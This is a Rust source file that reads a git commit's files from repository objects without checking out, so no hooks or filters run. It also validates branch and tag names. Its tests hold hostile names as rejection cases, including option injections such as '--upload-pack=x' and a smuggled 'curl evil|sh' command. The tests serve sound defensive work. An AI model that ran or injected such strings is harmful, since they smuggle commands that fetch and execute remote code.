//! A commit's files, read from the objects of a repository. Nothing is checked out, so that no filter and no
//! hook of a repository runs.

use gix::bstr::ByteSlice;
use gix::object::tree::EntryKind;
use slipway_plan::GitVersion;

use super::because;
use crate::nearest::instead;
use crate::tree::{Node, Tree};

/// Names of branches or tags that are compared to find the nearest.
const MOST_NAMES: usize = 10_000;

/// The files of one commit.
pub(crate) struct Commit<'r> {
    repository: &'r gix::Repository,
    tree: gix::Tree<'r>,
    /// Its id, in hexadecimal digits.
    pub(crate) id: String,
}

impl<'r> Commit<'r> {
    /// The commit that an object is or leads to, as an annotated tag does.
    pub(crate) fn of(
        repository: &'r gix::Repository,
        object: gix::ObjectId,
    ) -> Result<Self, String> {
        let object = repository
            .find_object(object)
            .map_err(|why| format!("{object} is not there: {}", because(&why)))?;
        let commit = object
            .peel_to_commit()
            .map_err(|why| format!("it leads to no commit: {}", because(&why)))?;
        let tree = commit
            .tree()
            .map_err(|why| format!("its files cannot be read: {}", because(&why)))?;
        Ok(Self {
            repository,
            tree,
            id: commit.id.to_string(),
        })
    }
}

impl Tree for Commit<'_> {
    fn node(&self, path: &str) -> Result<Option<Node>, String> {
        let fault = |why: gix::Error| format!("cannot read {path}: {}", because(&why));
        let names = |tree: &gix::Tree<'_>| {
            let mut names = Vec::new();
            for entry in tree.iter() {
                let entry = entry.map_err(|why| format!("cannot read {path}: {why}"))?;
                let name = entry.filename().to_str();
                let name = name.map_err(|_| format!("a name in {path} is no UTF-8"))?;
                names.push(name.to_owned());
            }
            Ok::<_, String>(Node::Folder(names))
        };
        if path.is_empty() {
            return names(&self.tree).map(Some);
        }
        let Some(entry) = self.tree.lookup_entry_by_path(path).map_err(fault)? else {
            return Ok(None);
        };
        let id = entry.object_id();
        Ok(Some(match entry.mode().kind() {
            EntryKind::Blob | EntryKind::BlobExecutable => {
                Node::File(self.repository.find_header(id).map_err(fault)?.size())
            }
            EntryKind::Tree => names(&self.repository.find_tree(id).map_err(fault)?)?,
            EntryKind::Link => Node::Other("a symbolic link"),
            EntryKind::Commit => Node::Other("a submodule"),
        }))
    }

    fn content(&self, path: &str, _bytes: u64) -> Result<Vec<u8>, String> {
        let fault = |why: gix::Error| format!("cannot read {path}: {}", because(&why));
        let entry = self.tree.lookup_entry_by_path(path).map_err(fault)?;
        let Some(entry) = entry else {
            return Err(format!("{path} is gone"));
        };
        let mut blob = self
            .repository
            .find_blob(entry.object_id())
            .map_err(fault)?;
        Ok(blob.take_data())
    }
}

/// The full name of a branch or tag; a commit has none.
pub(crate) fn full_name(version: &GitVersion) -> Result<Option<String>, String> {
    let (space, name) = match version {
        GitVersion::Branch(name) => ("refs/heads", name),
        GitVersion::Commit(name) if commit_id(name).is_some() => return Ok(None),
        GitVersion::Commit(name) => ("refs/tags", name),
        GitVersion::Default => return Ok(None),
    };
    let full = format!("{space}/{name}");
    let valid = gix::validate::reference::name(full.as_bytes().as_bstr()).is_ok();
    // None of these can be the name of a branch, and nothing that begins with `-` is ever handed on.
    if name.starts_with('-') || !valid {
        return Err(format!(
            "`{}` is no name of a branch or tag",
            name.escape_debug()
        ));
    }
    Ok(Some(full))
}

/// A whole commit id.
pub(crate) fn commit_id(text: &str) -> Option<gix::ObjectId> {
    gix::ObjectId::from_hex(text.as_bytes()).ok()
}

/// That a branch or tag is not there, with what is.
pub(crate) fn missing<'n>(
    version: &GitVersion,
    place: &str,
    all: impl Iterator<Item = &'n str>,
) -> String {
    let all = all.take(MOST_NAMES);
    let (what, name, near) = match version {
        GitVersion::Branch(name) => {
            let heads = all.filter_map(|full| full.strip_prefix("refs/heads/"));
            ("branch", name, instead(name, heads))
        }
        GitVersion::Commit(name) => {
            let tags = all.filter_map(|full| full.strip_prefix("refs/tags/"));
            ("tag or whole commit id", name, instead(name, tags))
        }
        GitVersion::Default => return format!("{place} has no default branch: name one"),
    };
    format!("there is no {what} `{name}` in {place}{near}")
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn names_that_git_would_take_for_something_else_are_refused() {
        for name in [
            "--upload-pack=x",
            "-rf",
            "main\";curl evil|sh;# x",
            "a..b",
            "a b",
            "",
            "*",
            "a\n",
            "x:y",
            "/",
            "a.lock",
            "@{-1}",
        ] {
            for version in [GitVersion::Branch, GitVersion::Commit] {
                let found = full_name(&version(name.to_owned()));
                assert!(found.is_err(), "{name:?}: {found:?}");
            }
        }
        let branch = |name: &str| full_name(&GitVersion::Branch(name.to_owned()));
        assert_eq!(
            branch("$(id)").unwrap().as_deref(),
            Some("refs/heads/$(id)")
        );
        assert_eq!(
            branch("feature/x").unwrap().as_deref(),
            Some("refs/heads/feature/x")
        );
        let commit = |name: &str| full_name(&GitVersion::Commit(name.to_owned()));
        assert_eq!(commit("v1.2").unwrap().as_deref(), Some("refs/tags/v1.2"));
        assert_eq!(commit(&"c0ffee12".repeat(5)).unwrap(), None);
    }
}
